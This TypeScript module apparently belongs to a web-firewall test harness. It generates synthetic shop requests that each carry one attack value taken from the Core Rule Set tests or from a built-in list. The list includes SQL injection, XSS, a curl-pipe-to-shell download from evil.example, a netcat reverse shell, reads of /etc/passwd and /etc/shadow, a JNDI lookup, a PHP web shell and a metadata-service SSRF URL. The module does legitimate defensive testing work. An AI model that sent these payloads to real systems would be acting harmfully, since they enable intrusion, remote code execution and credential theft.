import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { WebTransaction } from '../../../src/mitm/transaction.ts';
import { parseUrlEncoded } from '../../../src/mitm/waf/body/urlencoded.ts';
import { parseTestFile } from '../../../src/mitm/waf/regression/test-file.ts';
import { rawRequest } from '../../../src/mitm/waf/regression/test-request.ts';
import { CORPUS } from '../corpus.ts';
import { transactionOf } from './exchange.ts';
import type { Random } from './random.ts';
import { json, posted, request, type Visitor, visitor, type Wish } from './visitor.ts';
import { searchText } from './words.ts';

/** A value that attacks, as binary text, and what sort of attack it is. */
export interface AttackValue {
  readonly kind: string;
  readonly value: string;
}

/** An attack within a request that is benign but for one value. */
export interface Attack {
  readonly kind: string;
  /** Where the value is. */
  readonly place: PlaceName;
  readonly transaction: WebTransaction;
}

/** The Core Rule Set's tests, by kind of attack. */
const FOLDERS: readonly (readonly [folder: string, kind: string])[] = [
  ['REQUEST-930-APPLICATION-ATTACK-LFI', 'path traversal, files'],
  ['REQUEST-931-APPLICATION-ATTACK-RFI', 'remote files'],
  ['REQUEST-932-APPLICATION-ATTACK-RCE', 'commands'],
  ['REQUEST-933-APPLICATION-ATTACK-PHP', 'PHP'],
  ['REQUEST-934-APPLICATION-ATTACK-GENERIC', 'Node.js, templates, SSRF'],
  ['REQUEST-941-APPLICATION-ATTACK-XSS', 'XSS'],
  ['REQUEST-942-APPLICATION-ATTACK-SQLI', 'SQL injection'],
  ['REQUEST-944-APPLICATION-ATTACK-JAVA', 'Java'],
];
const TESTS = join(CORPUS, 'crs/tests/tests');
const LONGEST = 2000;
const SHORTEST = 3;

/** Values of the Core Rule Set's tests that its rules are to find; the built-in ones where there are no tests. */
export function attackValues(): readonly AttackValue[] {
  if (!existsSync(TESTS)) return OWN_VALUES;
  const found = new Map<string, AttackValue>();
  for (const [folder, kind] of FOLDERS) {
    for (const file of readdirSync(join(TESTS, folder)).sort()) {
      if (!file.endsWith('.yaml')) continue;
      for (const test of parseTestFile(readFileSync(join(TESTS, folder, file), 'utf8'), file)) {
        for (const { input, output } of test.stages) {
          if (output.expectIds.length === 0) continue;
          for (const value of valuesOf(rawRequest(input))) {
            if (value.length >= SHORTEST && value.length <= LONGEST)
              found.set(`${kind} ${value}`, { kind, value });
          }
        }
      }
    }
  }
  return [...found.values()];
}

/** Whether the values come from the Core Rule Set's tests. */
export function hasCrsTests(): boolean {
  return existsSync(TESTS);
}

/** Values of the arguments of a request: those of its query, and of a form. */
function valuesOf(raw: string): readonly string[] {
  const end = raw.indexOf('\r\n\r\n');
  const head = raw.slice(0, end);
  const target = head.split(' ', 2)[1] ?? '';
  const question = target.indexOf('?');
  const query = question < 0 ? '' : target.slice(question + 1);
  const isForm = /^content-type: *application\/x-www-form-urlencoded/im.test(head);
  const body = end >= 0 && isForm ? raw.slice(end + 4) : '';
  return [...parseUrlEncoded(query).args, ...parseUrlEncoded(body).args]
    .map(([, value]) => value)
    .filter((value) => /[^A-Za-z0-9_ ]/.test(value));
}

const OWN_VALUES: readonly AttackValue[] = [
  ['SQL injection', "1' OR '1'='1"],
  ['SQL injection', '1 UNION SELECT name, password FROM users-- -'],
  ['SQL injection', "'; DROP TABLE orders; --"],
  ['SQL injection', '1 AND SLEEP(5)'],
  ['SQL injection', "admin'/*"],
  ['XSS', '<script>alert(1)</script>'],
  ['XSS', '"><img src=x onerror=alert(document.cookie)>'],
  ['XSS', 'javascript:alert(1)'],
  ['XSS', "<svg/onload=fetch('//evil.example')>"],
  ['commands', '; cat /etc/passwd'],
  ['commands', '$(curl http://evil.example/x.sh | sh)'],
  ['commands', '| nc -e /bin/sh 192.0.2.1 4444'],
  ['commands', '`id`'],
  ['path traversal, files', '../../../../etc/passwd'],
  ['path traversal, files', '/etc/shadow'],
  ['path traversal, files', '..\\..\\windows\\win.ini'],
  ['remote files', 'http://192.0.2.1/shell.txt?'],
  ['Java', `\${jndi:ldap://evil.example/a}`],
  ['PHP', "<?php system($_GET['c']); ?>"],
  ['Node.js, templates, SSRF', '{{7*7}}'],
  ['Node.js, templates, SSRF', "require('child_process').exec('id')"],
  ['Node.js, templates, SSRF', 'http://169.254.169.254/latest/meta-data/'],
].map(([kind = '', value = '']) => ({ kind, value }));

/** Where an attack is put. */
export const PLACES = [
  'number (page)',
  'few values (sort)',
  'path (/item/{n})',
  'search',
  'e-mail of a form',
  'note of a form',
  'JSON number',
  'JSON text',
  'unknown parameter',
  'cookie',
  'user agent',
] as const;
export type PlaceName = (typeof PLACES)[number];

/** Puts each value into one of the places, in turn: requests of so many attackers. Their times are still to be set. */
export function attacks(random: Random, values: readonly AttackValue[], attackers: number): Attack[] {
  const chosen = [...values];
  // A sample that the order of the files has no part in.
  for (let at = chosen.length - 1; at > 0; at--) {
    const other = random.whole(0, at);
    [chosen[at], chosen[other]] = [chosen[other] as AttackValue, chosen[at] as AttackValue];
  }
  return chosen.map(({ kind, value }, i) => {
    const place = PLACES[i % PLACES.length] as PlaceName;
    const who = visitor(random, 30_000 + (i % attackers));
    return { kind, place, transaction: put(random, who, place, value, 0) };
  });
}

/** A request of a visitor with a value in a place. */
function put(random: Random, who: Visitor, place: PlaceName, value: string, timeMs: number): WebTransaction {
  const browser: Visitor = {
    ...who,
    kind: 'desktop',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0',
    session: random.token(32),
    csrf: random.hex(32),
  };
  const base = request(random, browser, timeMs, wishOf(random, browser, place, percent(value), value));
  if (place === 'user agent' || place === 'cookie') {
    // No line breaks in fields: servers refuse those.
    const text = value.replaceAll(/[\r\n\0]/g, ' ');
    const headers = base.headers.map(([name, old]): readonly [string, string] => {
      if (place === 'user agent' && name === 'User-Agent') return [name, text];
      if (place === 'cookie' && name === 'Cookie') return [name, `${old}; theme=${text}`];
      return [name, old];
    });
    return transactionOf({ ...base, headers });
  }
  return transactionOf(base);
}

function wishOf(random: Random, who: Visitor, place: PlaceName, escaped: string, value: string): Wish {
  const form = (fields: readonly (readonly [string, string])[], name: string): string =>
    fields.map(([key, one]) => `${key}=${key === name ? escaped : percent(one)}`).join('&');
  const item = random.whole(1, 3000);
  switch (place) {
    case 'number (page)':
      return { target: `/c/damen?page=${escaped}` };
    case 'few values (sort)':
      return { target: `/c/schuhe?sort=${escaped}` };
    case 'path (/item/{n})':
      return { target: `/item/${escaped}`, status: 404 };
    case 'search':
      return { target: `/search?q=${escaped}` };
    case 'e-mail of a form': {
      const fields = [
        ['email', ''],
        ['password', who.password],
        ['csrf', who.csrf],
      ] as const;
      return posted('/login', [], { body: form(fields, 'email'), status: 401 });
    }
    case 'note of a form': {
      const fields = [
        ['first_name', 'Peter'],
        ['last_name', 'Smith'],
        ['street', 'Gartenweg 4'],
        ['zip', '50667'],
        ['city', 'Berlin'],
        ['phone', '0171/1234567'],
        ['note', ''],
        ['csrf', who.csrf],
      ] as const;
      return posted('/account/address', [], {
        body: form(fields, 'note'),
        status: 302,
        location: '/account',
      });
    }
    case 'JSON number':
      return json('PUT', '/api/v1/cart', { items: [{ id: value, quantity: 1, variant: 'M' }] });
    case 'JSON text':
      return json('POST', `/api/v1/items/${item}/reviews`, {
        rating: 4,
        title: 'Tisch',
        text: value,
        recommend: true,
      });
    case 'unknown parameter':
      return { target: `/item/${item}?x=${escaped}` };
    case 'cookie':
    case 'user agent':
      return { target: `/search?q=${percent(Buffer.from(searchText(random), 'utf8').toString('latin1'))}` };
    default:
      return place satisfies never;
  }
}

/** Each byte that is no letter or digit as %XX. */
function percent(value: string): string {
  return value.replaceAll(
    /[^A-Za-z0-9]/g,
    (character) => `%${(character.charCodeAt(0) & 255).toString(16).toUpperCase().padStart(2, '0')}`,
  );
}
